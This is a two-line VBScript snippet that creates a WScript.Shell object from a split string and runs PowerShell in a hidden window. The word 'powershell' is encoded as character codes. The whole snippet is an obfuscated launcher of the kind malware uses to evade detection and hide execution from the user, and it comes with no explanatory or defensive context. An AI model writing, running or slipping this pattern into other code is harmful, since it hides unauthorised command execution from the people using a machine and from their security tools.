Set o = CreateObject("WScr" & "ipt.Shell")
o.Run Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108), 0
